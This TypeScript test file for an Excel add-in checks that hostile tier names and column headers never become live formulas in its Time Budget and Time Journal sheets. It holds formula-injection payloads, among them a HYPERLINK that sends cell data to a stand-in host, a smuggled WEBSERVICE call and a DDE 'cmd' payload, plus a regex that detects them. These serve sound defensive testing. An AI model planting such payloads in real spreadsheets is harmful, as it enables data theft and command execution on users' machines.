/**
 * Nothing a user typed becomes a formula: hostile tier names and column headers go through every
 * layout that writes formulas (the Time Budget, the Time Journal's summary), and every formula
 * stays exactly the one the add-in meant, the user's text only ever a literal cell or an escaped
 * structured reference.
 */
import type { Cell } from "../../../src/core/cells/cells";
import { DEFAULT_SETTINGS } from "../../../src/core/book/settings";
import type { SheetBlock } from "../../../src/core/sheets/sheetLayout";
import { timeBudgetLayout } from "../../../src/core/sheets/timeBudgetSheet";
import { timeJournalSummary } from "../../../src/core/sheets/timeJournalSheet";

const HOSTILE = [
  '=HYPERLINK("http://x.example/?"&A1,"click")',
  'B",0),2),999)+WEBSERVICE("http://x")+("',
  'A"B',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1-1",
];
const DANGER = /HYPERLINK|WEBSERVICE|cmd\||SUM\(1\+1\)/;

/** A formula with its string literals and structured references taken out: what Excel runs. */
function code(formula: string): string {
  // One pass, left to right, as Excel's tokenizer: a quote inside brackets is part of the header.
  return formula.replace(/"(?:[^"]|"")*"|\[(?:'.|[^\]'])*\]/g, (token) =>
    token.startsWith('"') ? '""' : "[]"
  );
}

function balanced(text: string): boolean {
  let depth = 0;
  for (const c of text) {
    depth += c === "(" ? 1 : c === ")" ? -1 : 0;
    if (depth < 0) return false;
  }
  return depth === 0;
}

function checkBlocks(blocks: readonly SheetBlock[], typed: readonly string[]): Cell[] {
  const literals: Cell[] = [];
  for (const block of blocks) {
    for (const row of block.values) {
      for (const cell of row) {
        if (block.formulas !== true) {
          literals.push(cell);
          continue;
        }
        // In a block written as formulas, no cell is a value the user typed…
        expect(typed).not.toContain(cell);
        if (typeof cell !== "string" || !cell.startsWith("=")) continue;
        // …and every formula is one formula, whose executable part holds none of the text.
        const body = code(cell);
        expect(body.startsWith("=")).toBe(true);
        expect(body.slice(1)).not.toContain("=HYPERLINK");
        expect(body).not.toMatch(DANGER);
        expect(balanced(body)).toBe(true);
      }
    }
  }
  return literals;
}

describe("hostile values never become formulas", () => {
  test.each([true, false])(
    "the Time Budget with hostile tier names and headers (settings sheet: %s)",
    (hasSettingsSheet) => {
      const tiers = HOSTILE.map((tier, i) => ({
        ...DEFAULT_SETTINGS.tiers[0],
        tier,
        days: 90 + i,
      }));
      const layout = timeBudgetLayout({
        table: "Clients",
        mapping: {
          name: "Name",
          tier: 'Ti]er"#@' + HOSTILE[1],
          revenue: "Rev[enue]" + HOSTILE[0],
          birthday: HOSTILE[3],
          clientSince: "Since'",
        } as never,
        settings: { ...DEFAULT_SETTINGS, tiers },
        hasSettingsSheet,
        counts: new Map(HOSTILE.map((t) => [t, 1])),
      });
      const literals = checkBlocks(layout.blocks, HOSTILE);
      // Each tier name is on the sheet once as itself, a text cell the formulas refer to.
      for (const tier of HOSTILE) expect(literals).toContain(tier);
      const label = layout.blocks.find((b) => b.values[0][0] === HOSTILE[0])!;
      expect(label.formulas).toBeUndefined();
      expect(label.formats).toEqual(["@"]);
    }
  );

  test("structured references escape what Excel reserves in a header", () => {
    const layout = timeBudgetLayout({
      table: "Clients",
      mapping: { name: "Name", tier: "A]B" } as never,
      settings: DEFAULT_SETTINGS,
      hasSettingsSheet: true,
      counts: new Map(),
    });
    const formulas = layout.blocks
      .flatMap((b) => b.values.flat())
      .filter((c) => typeof c === "string");
    expect(formulas.some((c) => (c as string).includes("Clients[A']B]"))).toBe(true);
  });

  test("the Time Journal's summary holds only the add-in's own formulas", () => {
    checkBlocks(timeJournalSummary().blocks, HOSTILE);
  });
});
